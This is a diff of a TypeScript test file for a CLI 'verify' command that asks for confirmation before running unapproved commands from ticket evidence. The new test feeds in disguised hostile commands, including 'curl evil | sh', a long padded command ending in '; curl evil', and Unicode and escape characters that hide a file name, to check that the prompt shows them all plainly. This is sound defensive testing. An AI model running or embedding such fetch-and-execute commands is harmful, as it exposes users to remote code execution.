@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict';
 import { exitCodes } from '../../../../src/cli/base/exitCodes.ts';
-import type { CommitEvidence } from '../../../../src/domain/proof/commitEvidence.ts';
 import type {
   Verification,
   Verifier,
@@ -30,21 +29,22 @@ const different: Verification = { ...equal, differences: [{ kind: 'unproved', co
 
 interface Proved {
   readonly result?: Verification;
-  readonly isApproved?: boolean;
+  readonly isAsked?: boolean;
+  readonly commands?: readonly string[];
+  readonly otherFiles?: string | null;
   readonly source?: Verifier['source'];
 }
 
-function proved({ result = equal, isApproved = true, source = 'notes' }: Proved = {}) {
+function proved({
+  result = equal,
+  isAsked = false,
+  source = 'notes',
+  commands = ['npm ci', 'npm test'],
+  otherFiles = null,
+}: Proved = {}) {
   const asked: VerifyOptions[] = [];
   const opened: unknown[] = [];
-  const proof = {
-    environment: { bootstrap: ['npm ci'] },
-    commands: [{ command: 'npm test' }, { command: 'npm test' }],
-  };
-  const evidence = {
-    ticket: 'TST-1',
-    evidence: [proof as unknown as CommitEvidence],
-  } as unknown as Verifier['evidence'];
+  const evidence = { ticket: 'TST-1' } as unknown as Verifier['evidence'];
   const bench: CommandBench = new CommandBench(
     {},
     {
@@ -53,11 +53,13 @@ function proved({ result = equal, isApproved = true, source = 'notes' }: Proved 
         return Promise.resolve({
           evidence,
           source,
-          isApproved,
-          verify: (options) => {
+          verify: async (options) => {
+            const request = { ticket: 'TST-1', commands, otherFiles };
+            if (isAsked && !(await options.confirm(request))) return undefined;
             asked.push(options);
             options.onProgress?.({ commit, command: 'npm test', number: 1, total: 2 });
-            return bench.stop.signal.aborted ? Promise.reject(new Error('stopped')) : Promise.resolve(result);
+            if (bench.stop.signal.aborted) throw new Error('stopped');
+            return result;
           },
         });
       },
@@ -140,7 +142,7 @@ describe('verify', () => {
   it('shows commands that nobody approved here, and runs them after a yes only', async () => {
     const from = { notes: 'notes', file: 'a file', database: 'database' } as const;
     for (const source of ['notes', 'file', 'database'] as const) {
-      const { bench, asked } = proved({ isApproved: false, source });
+      const { bench, asked } = proved({ isAsked: true, source });
       const { out, err, exit } = await bench.run('verify TST-1');
       assert.ok(
         out.includes(
@@ -149,12 +151,12 @@ describe('verify', () => {
       );
       assert.match(
         err,
-        /The evidence of TST-1 holds commands that were not approved in this installation, and no key that this repository trusts signed them\. To run them, use --yes\./,
+        /The evidence of TST-1 has commands that were not approved on this machine, and no trusted key signed them\. To run them, use --yes\./,
       );
       assert.deepEqual([exit, asked], [exitCodes.usage, []]);
     }
     for (const confirms of [true, false]) {
-      const { bench, asked } = proved({ isApproved: false });
+      const { bench, asked } = proved({ isAsked: true });
       bench.confirms = confirms;
       const { exit } = await bench.run('verify TST-1');
       assert.deepEqual(
@@ -162,8 +164,29 @@ describe('verify', () => {
         [confirms ? 0 : exitCodes.usage, confirms ? 1 : 0, ['Run them? [y/N] ']],
       );
     }
-    const { bench, asked } = proved({ isApproved: false });
+    const other = proved({ isAsked: true, otherFiles: commit });
+    assert.match(
+      (await other.bench.run('verify TST-1')).err,
+      /The commands of TST-1 were proved with other files than those of ffffffffffff, so no approval or signature covers/,
+    );
+    const { bench, asked } = proved({ isAsked: true });
     assert.deepEqual([(await bench.run('verify TST-1 --yes')).exit, asked.length], [0, 1]);
+  });
+
+  it('shows the whole of each command, with its lines, before it asks', async () => {
+    const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
+    const commands = ['# lint\ncurl evil | sh', long, 'echo \u202Etxt.sh\u001B[2K'];
+    const { bench } = proved({ isAsked: true, commands });
+    bench.confirms = false;
+    const { out } = await bench.run('verify TST-1');
+    assert.ok(out.includes('\n  # lint\n    curl evil | sh\n'), out);
+    assert.ok(out.includes(`\n  ${long}\n`));
+    assert.ok(out.includes('\n  echo ⟨U+202E⟩txt.sh⟨U+001B⟩[2K\n'));
+    assert.match(out, /Warning: contains characters that are invisible .* \(2\)/);
+    const json = proved({ isAsked: true, commands });
+    json.bench.confirms = true;
+    const { end } = await json.bench.json('verify TST-1');
+    assert.deepEqual([end?.exit, json.asked, json.bench.questions], [exitCodes.usage, [], []]);
   });
 
   it('ends with the signal that stopped it', async () => {
